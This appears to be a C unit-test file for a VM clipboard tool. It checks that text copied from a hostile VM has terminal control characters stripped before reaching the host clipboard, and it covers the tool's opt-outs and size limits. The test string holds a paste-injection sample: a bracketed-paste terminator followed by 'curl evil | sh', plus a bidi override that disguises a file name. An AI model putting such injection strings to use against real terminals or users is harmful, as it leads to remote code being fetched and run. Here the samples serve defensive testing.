/* A hostile VM's text on its way to a host terminal: "clipboard copy" with
 * the host clipboard of a real headless sway (tests/clipboard/with-sway.sh;
 * label ns), read by wl-paste as a host app would, and a fake agent behind
 * a hybrid socket serving text that ends a bracketed paste early, holds
 * 8-bit escapes, bidi overrides, BEL and NUL. By default they do not reach
 * the host clipboard and one line on stderr says so; the configuration's
 * keep-controls and --keep-controls keep the bytes; text of controls only is
 * nothing to copy; max-size counts what the VM sent; other types and paste
 * move byte for byte (docs/clipboard.md, Control characters). */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "ctl_error.h"
#include "ctl_run.h"
#include "fake_guest.h"
#include "host_clip.h"

static char dir[64], vm_path[128], conf[128], vm_dir[128];

/* A bracketed paste ended early, an 8-bit CSI, a right-to-left override,
 * BEL and NUL: 5 characters a terminal would act on. */
static const char hostile[] = "harmless\x1b[201~; curl evil | sh\n"
			      "\xc2\x9b"
			      "31m red \xe2\x80\xae"
			      "txt.exe\x07\x00"
			      "end";
static const char stripped[] = "harmless[201~; curl evil | sh\n31m red txt.exeend";
#define HOSTILE_LEN (sizeof(hostile) - 1)
#define REMOVED_LINE(vm, n)                                                                        \
	"appvmctl: " vm ": removed " n " control characters from the VM's text (--keep-controls "  \
	"keeps them)\n"

static struct run copy(const char *target, const char *extra)
{
	return run_ctl(target, "clipboard", "copy", "--config", conf, extra, NULL);
}

static void serve(struct fake_guest *g, const void *clip, size_t len, const char *mime)
{
	struct fake_opts o = {.front = FRONT_OK, .clip = clip, .clip_len = len, .clip_mime = mime};
	assert_int_equal(fake_guest_run(g, vm_path, &o), 0);
}

static void assert_host_text(const void *want, size_t len)
{
	static char got[70000];
	size_t n = host_clip(NULL, got, sizeof(got));
	if (n != len || memcmp(got, want, len) != 0)
		fail_msg("the host clipboard holds %zu bytes: %.80s", n, got);
}

static void test_hostile_text(void **state)
{
	(void)state;
	struct fake_guest g;
	serve(&g, hostile, HOSTILE_LEN, NULL);
	struct run r = copy("vm:mail", NULL);
	char out[128];
	snprintf(out, sizeof(out), "clipboard copy: %zu bytes of text from VM mail to the host",
		 strlen(stripped));
	expect(&r, 0, out, REMOVED_LINE("vm:mail", "5"));
	run_free(&r);
	assert_host_text(stripped, strlen(stripped));
	/* Every name the text is offered under holds the same. */
	static const char *const names[] = {"text/plain", "UTF8_STRING",
					    "text/plain;charset=utf-8"};
	for (size_t i = 0; i < 3; i++) {
		char got[256];
		host_clip(names[i], got, sizeof(got));
		if (strncmp(got, stripped, strlen(stripped)) != 0 || strchr(got, '\x1b'))
			fail_msg("%s: %s", names[i], got);
	}

	/* JSON: the count in the object, nothing on stderr. */
	r = copy("vm:mail", "--json");
	expect(&r, 0, "\"removed_controls\":5}", NULL);
	assert_string_equal(r.err, "");
	run_free(&r);
	fake_guest_stop(&g);
}

/* The opt-outs: the VM's key in the configuration and the flag. */
static void test_keep_controls(void **state)
{
	(void)state;
	struct fake_guest g;
	serve(&g, hostile, HOSTILE_LEN, NULL);
	struct run r = copy("vm:keep", "--json");
	expect(&r, 0, "\"removed_controls\":0}", NULL);
	run_free(&r);
	assert_host_text(hostile, HOSTILE_LEN);
	host_copy("before");
	r = copy("vm:mail", "--keep-controls");
	expect(&r, 0, "clipboard copy: 56 bytes of text from VM mail", NULL);
	assert_null(strstr(r.err, "removed"));
	run_free(&r);
	fake_guest_stop(&g);
	assert_host_text(hostile, HOSTILE_LEN);
}

/* Controls only: nothing to copy, the host clipboard as it was. */
static void test_only_controls(void **state)
{
	(void)state;
	static const char only[] = "\x1b\x07\xc2\x9b\xe2\x80\xae\x00";
	struct fake_guest g;
	serve(&g, only, sizeof(only) - 1, NULL);
	host_copy("keep me");
	struct run r = copy("vm:mail", NULL);
	expect(&r, CTL_EXIT_EMPTY, NULL,
	       "appvmctl: vm:mail: the VM's text holds only control characters (5): nothing to "
	       "copy; the host clipboard is unchanged (--keep-controls keeps them)\n");
	run_free(&r);
	fake_guest_stop(&g);
	assert_true(host_clip_is("keep me"));
}

/* max-size counts the bytes the VM sent, not what is left of them. */
static void test_size(void **state)
{
	(void)state;
	static char text[65537];
	for (size_t i = 0; i < sizeof(text); i++)
		text[i] = i % 8 == 0 ? '\x1b' : 'a';
	struct fake_guest g;
	serve(&g, text, sizeof(text), NULL);
	host_copy("keep me");
	struct run r = copy("vm:mail", NULL);
	expect(&r, CTL_EXIT_TOO_LARGE, NULL,
	       "the VM's clipboard holds 65537 bytes, over the limit of 65536 for this VM");
	run_free(&r);
	fake_guest_stop(&g);
	assert_true(host_clip_is("keep me"));
	serve(&g, text, 65536, NULL);
	r = copy("vm:mail", NULL);
	expect(&r, 0, "clipboard copy: 57344 bytes of text", REMOVED_LINE("vm:mail", "8192"));
	run_free(&r);
	fake_guest_stop(&g);
	static char want[57344];
	memset(want, 'a', sizeof(want));
	assert_host_text(want, sizeof(want));
}

/* Other types, and paste, move byte for byte. */
static void test_bytes_and_paste(void **state)
{
	(void)state;
	struct fake_guest g;
	serve(&g, hostile, HOSTILE_LEN, "application/x-term");
	struct run r = copy("vm:mail", "--type=application/x-term");
	expect(&r, 0, "clipboard copy: 56 bytes of application/x-term", NULL);
	assert_null(strstr(r.err, "removed"));
	run_free(&r);
	fake_guest_stop(&g);
	char got[256];
	assert_int_equal(host_clip("application/x-term", got, sizeof(got)), HOSTILE_LEN);
	assert_memory_equal(got, hostile, HOSTILE_LEN);

	serve(&g, NULL, 0, NULL);
	host_copy("a\x1b[0mb\xc2\x9b");
	r = run_ctl("vm:mail", "clipboard", "paste", "--config", conf, NULL);
	expect(&r, 0, "clipboard paste: 8 bytes of text", NULL);
	run_free(&r);
	assert_int_equal(atomic_load(&g.clip_set_bytes), 8);
	fake_guest_stop(&g);
}

static void put(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

/* vm:mail and vm:keep: two names of the VM directory for the fake guest. */
static void add_vm(const char *name)
{
	char path[256];
	snprintf(path, sizeof(path), "%s/%s", vm_dir, name);
	assert_int_equal(mkdir(path, 0700), 0);
	snprintf(path, sizeof(path), "%s/%s/target", vm_dir, name);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fprintf(f, "hybrid:%s\n", vm_path);
	fclose(f);
}

static int setup(void **state)
{
	(void)state;
	if (host_clip_setup(dir, sizeof(dir), "appvm-cliptext") < 0)
		return -1;
	snprintf(vm_path, sizeof(vm_path), "%s/vm.sock", dir);
	snprintf(conf, sizeof(conf), "%s/clipboard.conf", dir);
	put(conf, "[default]\nmin-interval = 0\n[vm keep]\nkeep-controls = yes\n");
	snprintf(vm_dir, sizeof(vm_dir), "%s/vm", dir);
	if (mkdir(vm_dir, 0700) < 0)
		return -1;
	add_vm("mail");
	add_vm("keep");
	setenv("APPVM_VM_DIR", vm_dir, 1);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	char path[256];
	static const char *const files[] = {
	    "vm/mail/target", "vm/keep/target", "vm/mail", "vm/keep", "vm",
	    "clipboard.conf", "vm.sock"};
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, files[i]);
		remove(path);
	}
	rmdir(dir);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_hostile_text),    cmocka_unit_test(test_keep_controls),
	    cmocka_unit_test(test_only_controls),   cmocka_unit_test(test_size),
	    cmocka_unit_test(test_bytes_and_paste),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
